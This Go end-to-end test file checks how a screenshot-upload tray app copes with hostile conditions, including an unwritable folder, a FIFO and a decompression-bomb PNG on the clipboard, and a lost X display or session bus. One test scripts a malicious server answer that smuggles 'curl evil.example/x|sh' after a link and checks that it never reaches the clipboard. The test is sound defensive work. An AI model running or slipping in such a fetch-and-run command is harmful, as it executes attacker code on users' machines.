package e2e

import (
	"bytes"
	be "encoding/binary"
	"fmt"
	"hash/crc32"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"imagecx/internal/testkit/poll"
	"imagecx/internal/testkit/xvfb"
	"imagecx/uploader/cxtest"
)

// The tray app in a hostile environment: a captures folder it cannot
// write, a FIFO on the clipboard.

func TestUnwritableCapturesFolderAndAFIFOOnTheClipboard(t *testing.T) {
	d := newDesk(t, deskOpts{})
	// A file where the captures folder's parent should be: no one can
	// create the folder, not even root.
	blocker := filepath.Join(d.u.home, "not-a-folder")
	os.WriteFile(blocker, nil, 0o600)
	os.MkdirAll(d.u.configDir(), 0o700)
	os.WriteFile(filepath.Join(d.u.configDir(), "config.json"), []byte(`{"capture":{"save_dir":"`+filepath.Join(blocker, "captures")+`"}}`), 0o600)
	p := d.start()

	// The upload works, and the notification says there is no local copy.
	from := len(d.notes.All())
	d.key("ctrl+shift+1")
	d.waitStored(1, 30*time.Second)
	n := d.notes.Wait(t, from, 10*time.Second, titled("Uploaded — link copied"))
	if !strings.Contains(n.Body, "No copy is kept on this computer") || !strings.Contains(n.Body, "not-a-folder") {
		t.Errorf("notification %q does not say the capture was not saved", n.Body)
	}

	// A FIFO on the clipboard: refused at once, and the app goes on.
	fifo := filepath.Join(d.u.home, "x.png")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	d.copyToClipboard("text/uri-list", []byte("file://"+fifo+"\n"))
	from = len(d.notes.All())
	d.tray.Click(t, p.item, "Upload clipboard image")
	n = d.notes.Wait(t, from, 10*time.Second, titled("Nothing to upload"))
	if !strings.Contains(n.Body, "named pipe") {
		t.Errorf("notification %q does not say what x.png is", n.Body)
	}
	from = len(d.notes.All())
	d.key("ctrl+shift+1")
	d.waitStored(2, 30*time.Second)
	d.notes.Wait(t, from, 10*time.Second, titled("Uploaded — link copied"))
	d.tray.Click(t, p.item, "Quit")
	if code, took := p.exit(t, 30*time.Second); code != 0 {
		t.Errorf("quit: exit %d after %v", code, took)
	}
}

// Twenty presses in a burst, with uploads slower than captures: every
// press is either captured and uploaded or said to be dropped.
func TestABurstOfPressesIsTakenOrSaid(t *testing.T) {
	d := newDesk(t, deskOpts{noTray: true, server: cxtest.Config{Delay: 200 * time.Millisecond}})
	d.start()
	keys := []string{"key", "--delay", "5"}
	for range 20 {
		keys = append(keys, "ctrl+shift+1")
	}
	d.tool("xdotool", keys...)
	dropped := 0
	poll.Until(t, 2*time.Minute, "every press uploaded or said to be dropped", func() bool {
		dropped = 0
		for _, n := range d.notes.All() {
			if n.Title == "Not every press was taken" {
				var k int
				fmt.Sscanf(n.Body, "%d", &k)
				dropped += k
			}
		}
		return len(d.srv.Stored())+dropped == 20
	})
	t.Logf("%d uploaded, %d said to be dropped", len(d.srv.Stored()), dropped)
	// The first press finds nothing waiting: it is taken whatever else
	// is dropped, and its link arrives.
	if len(d.srv.Stored()) == 0 {
		t.Error("no press was uploaded: all 20 were said to be dropped")
	}
	said := false
	for _, n := range d.notes.All() {
		said = said || strings.HasPrefix(n.Title, "Uploaded")
	}
	if !said {
		t.Error("no upload was said")
	}
	if files := savedCaptures(t, d.u); len(files) != len(d.srv.Stored()) {
		t.Errorf("%d captures saved, %d uploaded", len(files), len(d.srv.Stored()))
	}
}

// A decompression bomb on the clipboard: a PNG over the size limit whose
// header says 20000×20000 pixels is refused from the header; the tray
// app's memory does not move.
func TestClipboardBombIsRefused(t *testing.T) {
	d := newDesk(t, deskOpts{})
	p := d.start()
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	chunk := func(typ string, data []byte) {
		be.Write(&b, be.BigEndian, uint32(len(data)))
		b.WriteString(typ)
		b.Write(data)
		be.Write(&b, be.BigEndian, crc32.ChecksumIEEE(append([]byte(typ), data...)))
	}
	ihdr := be.BigEndian.AppendUint32(be.BigEndian.AppendUint32(nil, 20000), 20000)
	chunk("IHDR", append(ihdr, 8, 6, 0, 0, 0))
	chunk("IDAT", bytes.Repeat([]byte{0x78}, 6<<20))
	d.copyToClipboard("image/png", b.Bytes())
	from := len(d.notes.All())
	d.tray.Click(t, p.item, "Upload clipboard image")
	n := d.notes.Wait(t, from, 30*time.Second, titled("Upload failed"))
	if !strings.Contains(n.Body, "20000×20000") {
		t.Errorf("notification %q", n.Body)
	}
	if mb := peakMB(t, p); mb > 250 {
		t.Errorf("peak memory %.0f MB", mb)
	}
	if len(d.srv.Requests()) != 0 {
		t.Error("it was sent")
	}
}

// The X server going away (the session ended, Xvfb crashed): the tray
// app says so and exits cleanly, for a session manager to start it again.
func TestDisplayGoneEndsTheTrayApp(t *testing.T) {
	d := newDesk(t, deskOpts{})
	p := d.start()
	from := len(d.notes.All())
	d.x.Stop()
	code, took := p.exit(t, 10*time.Second)
	if code != 1 || !strings.Contains(p.out.String(), "The X display went away") {
		t.Errorf("exit %d after %v:\n%s", code, took, p.out.String())
	}
	d.notes.Wait(t, from, 5*time.Second, titled("imagecx stopped"))
	if !strings.Contains(d.logText(), "the X display went away") {
		t.Error("the log does not say why it stopped")
	}
}

// The session bus going away and coming back (a crash, a restart): the
// tray app keeps capturing and uploading while it is gone, and its icon,
// menu and notifications come back with it.
func TestSessionBusRestart(t *testing.T) {
	d := newDesk(t, deskOpts{})
	p := d.start()
	d.bus.Stop()
	d.key("ctrl+shift+1")
	d.waitStored(1, 30*time.Second)
	time.Sleep(500 * time.Millisecond)
	if !p.running() {
		t.Fatalf("the tray app died with the bus:\n%s", p.out.String())
	}

	d.bus.Restart(t)
	d.notes = d.bus.RecordNotifications(t)
	d.tray = d.bus.WatchTray(t)
	p.item = d.tray.Item(t, 0, 20*time.Second)
	d.tray.Click(t, p.item, "Capture full screen")
	d.waitStored(2, 30*time.Second)
	d.notes.Wait(t, 0, 10*time.Second, titled("Uploaded — link copied"))
	d.tray.Click(t, p.item, "Quit")
	if code, _ := p.exit(t, 5*time.Second); code != 0 {
		t.Errorf("exit %d:\n%s", code, p.out.String())
	}
	if strings.Contains(p.out.String(), "panic") {
		t.Errorf("a panic:\n%s", p.out.String())
	}
}

// A hostile server's answers reach neither the clipboard nor a
// notification, and a long rate limit is waited out, not hammered.
func TestHostileServerAnswers(t *testing.T) {
	d := newDesk(t, deskOpts{noTray: true})
	d.start()
	d.srv.Script(cxtest.Link("https://x.example/a.png\ncurl evil.example/x|sh #"))
	from := len(d.notes.All())
	d.key("ctrl+shift+1")
	n := d.notes.Wait(t, from, 30*time.Second, titled("Upload failed"))
	if strings.Contains(n.Body, "evil") || !strings.Contains(n.Body, "link in the answer is unusable") {
		t.Errorf("notification %q", n.Body)
	}
	probe := exec.Command("xclip", "-o", "-selection", "clipboard")
	probe.Env = d.u.environ()
	if clip, _ := probe.Output(); strings.Contains(string(clip), "evil") { // nothing there is right too
		t.Errorf("clipboard %q", clip)
	}

	d.srv.Script(cxtest.TooMany429(3600))
	before := len(d.srv.Requests())
	from = len(d.notes.All())
	d.key("ctrl+shift+1")
	n = d.notes.Wait(t, from, 30*time.Second, titled("Upload failed"))
	if !strings.Contains(n.Body, "it can take the next one in 1 hour") || !strings.Contains(n.Body, "tries again in 1 hour") {
		t.Errorf("notification %q", n.Body)
	}
	time.Sleep(time.Second)
	if got := len(d.srv.Requests()) - before; got != 1 {
		t.Errorf("%d requests against a one-hour Retry-After", got)
	}
}

// The last link outlives the tray app where a clipboard manager runs: on
// Quit it is handed over (SAVE_TARGETS).
func TestTheLinkOutlivesTheApp(t *testing.T) {
	d := newDesk(t, deskOpts{})
	xvfb.ClipboardManager(t, d.x.Display)
	p := d.start()
	from := len(d.notes.All())
	d.key("ctrl+shift+1")
	n := d.notes.Wait(t, from, 30*time.Second, titled("Uploaded — link copied"))
	d.tray.Click(t, p.item, "Quit")
	if code, took := p.exit(t, 30*time.Second); code != 0 {
		t.Errorf("exit %d after %v", code, took)
	}
	if got := string(d.clipboard("UTF8_STRING")); got != strings.SplitN(n.Body, "\n", 2)[0] {
		t.Errorf("after Quit the clipboard holds %q", got)
	}
}
